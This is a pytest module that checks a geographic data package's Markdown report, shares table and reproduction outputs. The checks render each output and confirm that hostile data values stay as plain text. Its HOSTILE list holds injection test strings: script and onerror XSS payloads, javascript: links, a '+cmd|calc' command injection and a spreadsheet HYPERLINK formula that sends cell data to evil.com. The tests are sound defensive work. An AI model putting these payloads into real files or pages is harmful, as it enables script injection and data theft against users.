"""Markdown outputs show data as text: rendered by a CommonMark renderer, no value becomes markup.

Every Markdown the package writes (``report -o r.md``, ``shares --format md``, reproduce's
``reproduction.md``) is rendered here with markdown-it-py (CommonMark plus GFM tables,
strikethrough and autolinks, raw HTML allowed as Jupyter, pandoc and MkDocs allow it), and
the HTML is checked: only the elements the layout makes, every name as text, every table
with its rows and columns, one list item per item.
"""

from __future__ import annotations

import csv
import dataclasses
import re
import warnings
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from clusteratlas import geocode, shares
from clusteratlas._resources import data_path
from clusteratlas._text import one_line
from clusteratlas.aggregate import load_zones
from clusteratlas.export import format_shares, markdown_table, markdown_text
from clusteratlas.reporting import Report, build_report, render_markdown
from clusteratlas.reproduction import reproduction_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[click](javascript:alert(3))",
    "![i](javascript:alert(4))",
    "<javascript:alert(5)>",
    "<http://evil.example/6>",
    '=HYPERLINK("http://evil.com/?x="&A1;"click me")',
    "www.evil.com and me@evil.com",
    "+cmd|calc",
    "a | b || c |",
    "Line\nbreak, quoted",
    "- Forged item\n- second",
    "1. Ordered\r\n2) list",
    "# Heading #",
    "> quote",
    "**bold** _em_ ~~del~~ `code` $x^2$",
    "Back\\slash\\",
    "&lt;b&gt; &amp; &#60;i&#62; &copy;",
    "Heading {onclick=alert(8)}",
    "<!-- comment -->",
    "   =1+2",
    "---",
    "* * *",
    "Bell\x07 esc\x1b[31m",
    "U+2028\u2028U+2029\u2029NEL\x85VT\x0bFF\x0c",
    "bidi \u202eevil",
    "[ref]: javascript:alert(9)",
    "Souss_Massa 58.8% -2.5 *",
    "مجمع الصناعات",
    "note[^1] <b>x</b>",
    "tab\there",
]

LAYOUT = {"h1", "h2", "p", "ul", "li", "strong", "table", "thead", "tbody", "tr", "th", "td"}


def renderer(*, fuzzy: bool = False) -> MarkdownIt:
    """CommonMark with raw HTML on, GFM tables, strikethrough and autolinks (``www.`` when ``fuzzy``)."""
    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough", "linkify"])
    md.linkify.set({"fuzzy_link": fuzzy})
    return md


MD = renderer()


class Page(HTMLParser):
    """Tags, attributes, comments, text and tables of rendered HTML."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attrs: list[tuple[str, str, str | None]] = []
        self.other: list[str] = []
        self.text: list[str] = []
        self.tables: list[list[list[str]]] = []
        self.items: list[str] = []
        self._cell: list[str] | None = None
        self._item: list[str] | None = None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attrs += [(tag, k, v) for k, v in attrs]
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "li":
            self._item = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append(squeeze("".join(self._cell)))
            self._cell = None
        elif tag == "li" and self._item is not None:
            self.items.append(squeeze("".join(self._item)))
            self._item = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        for part in (self._cell, self._item):
            if part is not None:
                part.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def all_text(self) -> str:
        return squeeze("".join(self.text))


def squeeze(text: str) -> str:
    return " ".join(text.split())


def shown(value: object) -> str:
    """How a value must read once rendered: line breaks as spaces, controls as visible escapes."""
    text = re.sub("\r\n|[\t\n\v\f\r\x1c-\x1e\x85\u2028\u2029]", " ", str(value))
    return squeeze(one_line(text, limit=10**9))


def check_layout(page: Page, allowed: set[str] = LAYOUT) -> None:
    assert set(page.tags) <= allowed, set(page.tags) - allowed
    assert not page.other
    for tag, name, value in page.attrs:
        if tag == "img" and "img" in allowed:
            assert name in ("src", "alt"), name
            continue
        assert tag in ("th", "td") and name == "style" and value in ("text-align:right",), (tag, name, value)


def gazetteer_cities(n: int, seed: int) -> list[str]:
    """``n`` names of real gazetteer places (distinct, with a position)."""
    places = pd.read_csv(data_path("geo", "places.csv"), usecols=["name", "lat"])
    names = places.loc[places["lat"].notna(), "name"].drop_duplicates().to_numpy()
    return [str(v) for v in np.random.default_rng(seed).choice(names, size=n, replace=False)]


def records(names: list[str], seed: int, **columns: list[str]) -> pd.DataFrame:
    frame = pd.DataFrame({"name": names, "city": gazetteer_cities(len(names), seed), **columns})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return geocode(frame)


@pytest.fixture(scope="module")
def hostile_report() -> Report:
    n = len(HOSTILE)
    after = records(HOSTILE, 1, sector=[HOSTILE[(i + 5) % n] for i in range(n)])
    before = records([f"B{i} {s}" for i, s in enumerate(HOSTILE)] + ["Kept"], 2)  # distinct match keys
    return build_report(
        after, compare=before, compare_label="before <b>|.csv", data_label="hostile`|<x>.csv", figure=False
    )


@pytest.fixture(scope="module")
def hostile_page(hostile_report: Report) -> Page:
    return Page(MD.render(render_markdown(hostile_report)))


def test_report_renders_no_element_or_attribute_from_the_data(hostile_page: Page) -> None:
    check_layout(hostile_page)
    assert hostile_page.tags["a"] == 0 and hostile_page.tags["img"] == 0 and hostile_page.tags["script"] == 0


def test_report_shows_every_hostile_name_as_text(hostile_page: Page) -> None:
    text = hostile_page.all_text()
    for name in HOSTILE:
        assert shown(name) in text, name
    for i, name in enumerate(HOSTILE):
        assert shown(f"B{i} {name}") in text, name  # in the "Gone" list
    assert shown("hostile`|<x>.csv") in text and shown("before <b>|.csv") in text


def test_report_tables_keep_their_rows_and_columns(hostile_report: Report, hostile_page: Page) -> None:
    expected = [t.display for t in hostile_report.tables()]
    assert len(hostile_page.tables) == len(expected) > 3
    for frame, rows in zip(expected, hostile_page.tables, strict=True):
        assert len(rows) == len(frame) + 1
        assert rows[0] == [shown(c) for c in frame.columns]
        assert rows[1:] == [[shown(v) for v in row] for row in frame.itertuples(index=False)]


def test_report_lists_headings_and_paragraphs_keep_their_count(hostile_report: Report, hostile_page: Page) -> None:
    sections = hostile_report.sections
    items = [i for s in sections for i in s.items]
    assert any("Gone" in i and "Line" in i for i in items)
    assert hostile_page.items == [shown(i) for i in items]
    assert hostile_page.tags["h1"] == 1 and hostile_page.tags["h2"] == len(sections)
    captions = sum(1 for t in hostile_report.tables() if t.caption.strip())
    assert hostile_page.tags["strong"] == captions
    assert hostile_page.tags["p"] == captions + sum(len(s.paragraphs) for s in sections)


def test_figure_alt_and_path_stay_text(hostile_report: Report) -> None:
    first = dataclasses.replace(hostile_report.sections[0], figure_png=b"png", figure_alt=" ".join(HOSTILE))
    built = dataclasses.replace(hostile_report, sections=[first])
    page = Page(MD.render(render_markdown(built, figure_path="my map (1) [x] <y>.png")))
    check_layout(page, LAYOUT | {"img"})
    images = [(k, v) for tag, k, v in page.attrs if tag == "img"]
    assert dict(images)["src"] == "my%20map%20%281%29%20%5Bx%5D%20%3Cy%3E.png"
    assert squeeze(dict(images)["alt"] or "") == shown(" ".join(HOSTILE))


def test_report_command_writes_escaped_markdown(run: Callable, tmp_path: Path) -> None:
    src = tmp_path / "hostile.csv"
    cities = gazetteer_cities(len(HOSTILE), 3)
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["name", "city"], *zip(HOSTILE, cities, strict=True)])
    r = run("report", str(src), "-o", str(tmp_path / "r.md"), "--no-figure", "-q")
    assert r.code == 0, r.err
    page = Page(MD.render((tmp_path / "r.md").read_text(encoding="utf-8")))
    check_layout(page)
    for name in HOSTILE:
        assert shown(name).strip() in page.all_text(), name


def test_shares_md_keeps_columns_and_marker(tmp_path: Path) -> None:
    geo = records(HOSTILE, 4, sector=HOSTILE)
    result = shares(geo, by="sector")
    page = Page(MD.render(format_shares(result, "md")))
    check_layout(page)
    (rows,) = page.tables
    assert len(rows) == len(result.table) + 1 and {len(r) for r in rows} == {3}
    assert {r[0] for r in rows[1:]} == {shown(s) for s in HOSTILE}
    region = Page(MD.render(format_shares(shares(geo, by="region", per_capita=True), "md")))
    check_layout(region)
    assert "* fewer than 5 records" in region.all_text()  # the marker's note, not a list item
    assert region.tags["li"] == 0


def test_reproduction_markdown_is_escaped() -> None:
    unplaced = [f"{h} (nowhere)" for h in HOSTILE[:6]]
    geo = records(HOSTILE, 5)
    lost = pd.DataFrame({"name": unplaced, "city": ["Nowhere <b>|x</b>"] * len(unplaced)})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        geo = pd.concat([geo, geocode(lost)], ignore_index=True)
    tables = {by: shares(geo, by=by) for by in ("zone", "region")}
    text = reproduction_markdown(geo, tables, [], data=Path("data `x` <b>|.csv"), zones=load_zones())
    page = Page(MD.render(text))
    check_layout(page)
    assert shown("data `x` <b>|.csv") in page.all_text()
    gone = [i for i in page.items if any(shown(u) in i for u in unplaced)]
    assert len(gone) == len(unplaced)
    assert [len(t) for t in page.tables[:2]] == [len(tables["zone"].table) + 1, len(tables["region"].table) + 1]


# --------------------------------------------------------- markdown_text, any string

#: Texts that are markup only at the start of a line (list items, thematic breaks, code).
LINE_STARTS = [
    "- x",
    "+ x",
    "* x",
    "-",
    "1. x",
    "1) x",
    "123456789. x",
    "---",
    "- - -",
    "***",
    "___",
    "    code",
    "\t- x",
]
MARKUP = "\\`*_{}[]()<>#+-.!|~$^&;:@=/\"'"
TEXT = st.text(
    alphabet=st.sampled_from(list(MARKUP + " \t\n\r\x0b\x0c\x85\u2028\u2029\x00\x07\x1b\u202eaZ19é"))
    | st.characters(exclude_categories=("Cs",)),
    max_size=40,
)


@settings(max_examples=300, deadline=None)
@given(TEXT)
@example("- x")
@example("10) x")
@example("---")
def test_any_text_is_one_paragraph_of_text(value: str) -> None:
    page = Page(MD.render(markdown_text(value)))
    check_layout(page, {"p"})
    assert page.tags["p"] <= 1 and page.all_text() == shown(value)


@settings(max_examples=200, deadline=None)
@given(TEXT)
@example("- x")
@example("10) x")
@example("---")
def test_any_text_is_a_heading_or_bold_text(value: str) -> None:
    heading = Page(MD.render(f"## {markdown_text(value)}"))
    check_layout(heading, {"h2"})
    assert heading.tags["h2"] == 1 and heading.all_text() == shown(value)
    inner = markdown_text(value).strip()  # as render_markdown writes a caption
    if inner:
        bold = Page(MD.render(f"**{inner}**"))
        check_layout(bold, {"p", "strong"})
        assert bold.tags["strong"] == 1 and bold.all_text() == shown(value)


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=5))
@example(LINE_STARTS)
def test_any_texts_are_one_list_item_each(values: list[str]) -> None:
    page = Page(MD.render("\n".join(f"- {markdown_text(v)}" for v in values)))
    check_layout(page, {"ul", "li"})
    assert page.items == [shown(v) for v in values]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=3, max_size=3), min_size=1, max_size=4))
def test_any_cells_keep_the_table_shape(rows: list[list[str]]) -> None:
    frame = pd.DataFrame(rows[1:], columns=rows[0]) if len(set(rows[0])) == 3 else pd.DataFrame(rows)
    page = Page(MD.render(markdown_table(frame.astype(str), numeric=(frame.columns[2],))))
    check_layout(page)
    (table,) = page.tables
    assert table[0] == [shown(c) for c in frame.columns]
    assert table[1:] == [[shown(v) for v in row] for row in frame.astype(str).itertuples(index=False)]


def test_numbers_and_words_are_left_alone() -> None:
    for text in LINE_STARTS:
        page = Page(MD.render(markdown_text(text)))
        check_layout(page, {"p"})
        assert page.all_text() == shown(text), text
    for plain in ("58.8%", "-20.8", "+8.3", "12,821,606", "0.16 *", "Souss_Massa", "Tanger-Tétouan-Al Hoceima"):
        assert markdown_text(plain, cell=True) == plain
    caption = "Casablanca–Settat–Rabat axis (2 records; 25.0%)"
    assert markdown_text(caption) == caption


def test_gfm_autolinks_are_not_made() -> None:
    fuzzy = renderer(fuzzy=True)
    links = (
        "www.evil.com",
        "x www.evil.com/a",
        "me@evil.com",
        "see http://evil.com",
        "HTTPS://evil.com",
        "mailto:a@evil.com",
    )
    for value in links:
        assert fuzzy.render(value).count("<a ") == 1, value  # the renderer does link them raw
        page = Page(fuzzy.render(markdown_text(value)))
        check_layout(page, {"p"})
        assert page.all_text() == value


def test_table_cells_line_up_with_repeats_and_missing_values() -> None:
    rng = np.random.default_rng(6)
    values = np.array([*HOSTILE[:8], np.nan], dtype=object)
    frame = pd.DataFrame({"a": rng.choice(values, 60), "b": rng.integers(0, 3, 60), "c": rng.choice(values, 60)})
    page = Page(MD.render(markdown_table(frame)))
    check_layout(page)
    (table,) = page.tables
    assert table[1:] == [[shown(v) for v in row] for row in frame.itertuples(index=False)]
    assert sum(r[0] == "nan" for r in table[1:]) == int(frame["a"].isna().sum()) > 0
